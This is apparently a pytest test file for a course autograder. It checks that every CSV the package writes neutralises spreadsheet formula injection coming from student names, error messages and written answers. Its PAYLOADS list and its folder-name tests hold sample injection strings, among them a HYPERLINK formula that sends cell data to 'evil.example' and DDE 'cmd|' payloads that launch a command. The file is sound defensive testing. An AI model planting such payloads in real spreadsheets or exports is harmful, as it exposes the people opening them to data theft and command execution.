"""Spreadsheet formulas planted in the CSV files TAs open (grades, tables, sheet, exports).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) runs as a
formula in Excel, LibreOffice and Google Sheets. Students control exception messages
(they reach ``tables/common_failures.csv``), written answers (the grading sheet), and, via
the LMS, their names (the Canvas/Moodle/nbgrader exports). Each such cell must be written
inert; numbers, negative ones included, stay numbers; and every CSV of the package goes
through the one writer that does this.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from adversarial.classroom import FULL_MARKS, HONEST, grade_class
from autograder.cli import main
from autograder.course.csv_files import FORMULA_START, neutral_cell, restore_cell, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
PACKAGE = Path(__file__).resolve().parents[2] / "autograder"


def every_cell(folder: Path) -> dict[str, list[str]]:
    """Every cell of every CSV under ``folder``, read as text, by file name."""
    cells = {}
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            cells[str(path.relative_to(folder))] = [c for row in csv.reader(handle) for c in row]
    return cells


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_START) and neutral_cell(cell) != cell


def test_no_csv_of_the_class_holds_a_formula(arena, tmp_path):
    for number, payload in enumerate(PAYLOADS):
        student = f"attacker{number}"
        arena.submit(
            HONEST.replace("return float(np.linalg.norm(x))", f"raise ValueError({payload!r})"),
            student,
        )
        (arena.folder(student) / "answers.md").write_text(f"## essay: Essay\n{payload}\n")
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "first_name", "last_name", "email", "section"])
        for number, payload in enumerate(PAYLOADS):
            writer.writerow([f"attacker{number}", payload, payload, payload, payload])
        writer.writerow(["honest", "Ada", "Lovelace", "ada@example.edu", "-1"])
    results = grade_class(arena)
    assert all(results[f"attacker{n}"].score == 4.0 for n in range(len(PAYLOADS)))
    root = ["--course", str(arena.root)]
    assert main([*root, "manual", "sheet", "toy"]) == 0
    assert main([*root, "report", "toy", "--no-public", "--roster", str(roster)]) == 0
    cells = every_cell(arena.course.reports)
    expected = {
        "class_grades.csv",
        "toy/grades.csv",
        "toy/grading_sheet.csv",
        "toy/tables/common_failures.csv",
        "toy/exports/canvas.csv",
        "toy/exports/moodle.csv",
        "toy/exports/nbgrader_grades.csv",
    }
    assert expected <= set(cells)
    found = {name: [c for c in found if dangerous(c)] for name, found in cells.items()}
    assert {name: bad for name, bad in found.items() if bad} == {}
    # ... and the payloads are still there, shown as text.
    assert any(PAYLOADS[0] in c for c in cells["toy/tables/common_failures.csv"])
    assert any(c == "'" + PAYLOADS[0] for c in cells["toy/exports/canvas.csv"])
    assert any(c == "'" + PAYLOADS[3].strip() for c in cells["toy/grading_sheet.csv"])
    moodle = pd.read_csv(arena.course.reports / "toy" / "exports" / "moodle.csv")
    assert moodle[moodle.columns[-1]].dtype.kind == "f"  # the grades stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_cells_are_neutralized_and_numbers_kept(payload, tmp_path):
    frame = pd.DataFrame(
        {"text": [payload, "-3.5", "+2", "1e-3", "plain"], "number": [-1.5, -2.0, 0.0, 3.0, 1.0]}
    )
    path = write_csv(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, dtype={"text": str}, keep_default_na=False)
    assert back["text"][0] == "'" + payload
    assert list(back["text"][1:]) == ["-3.5", "+2", "1e-3", "plain"]
    assert list(back["number"]) == [-1.5, -2.0, 0.0, 3.0, 1.0]
    assert restore_cell(back["text"][0]) == payload
    assert restore_cell("'plain") == "'plain"  # a quote we did not add stays


def test_grading_sheet_comments_survive_the_round_trip(arena, tmp_path):
    arena.submit(HONEST, "honest")
    sheet = tmp_path / "scores.csv"
    write_csv(
        [{"student_id": "honest", "problem": "essay", "score": 2, "comment": "- missing a step"}],
        sheet,
        columns=["student_id", "problem", "score", "comment"],
    )
    root = ["--course", str(arena.root)]
    assert main([*root, "grade", "toy"]) == 0
    assert main([*root, "manual", "import", "toy", str(sheet)]) == 0
    assert main([*root, "manual", "sheet", "toy"]) == 0
    back = pd.read_csv(arena.course.reports / "toy" / "grading_sheet.csv", dtype=str)
    row = back[back["student_id"] == "honest"].iloc[0]
    assert row["comment"] == "'- missing a step" and row["score"] == "2"
    assert (
        main(
            [
                *root,
                "manual",
                "import",
                "toy",
                str(arena.course.reports / "toy" / "grading_sheet.csv"),
            ]
        )
        == 0
    )
    saved = pd.read_csv(arena.course.reports / "toy" / "manual_scores.csv", dtype=str)
    assert restore_cell(saved["comment"].iloc[0]) == "- missing a step"
    grades = pd.read_csv(arena.course.reports / "toy" / "grades.csv").set_index("student_id")
    assert grades.loc["honest", "score"] == FULL_MARKS + 2


def test_every_csv_is_written_through_the_one_writer():
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        f"{path.relative_to(PACKAGE)}:{number}"
        for path in sorted(PACKAGE.rglob("*.py"))
        if path.name != "csv_files.py"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if writers.search(line)
    ]
    assert offenders == []


def test_folder_names_that_are_formulas_never_become_students(arena, capsys):
    names = ["=1+1", "+cmd|' calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
    for name in names:
        arena.submit(HONEST, name)
    arena.submit(HONEST, "honest")
    assert main(["--course", str(arena.root), "grade", "toy"]) == 0
    warnings = capsys.readouterr().err
    assert warnings.count("is not a usable student id") == len(names)
    cells = every_cell(arena.course.reports / "toy")["grades.csv"]
    assert not any(dangerous(c) for c in cells)
    grades = pd.read_csv(arena.course.reports / "toy" / "grades.csv", dtype={"student_id": str})
    assert set(grades["student_id"]) == {"alice", "honest"}
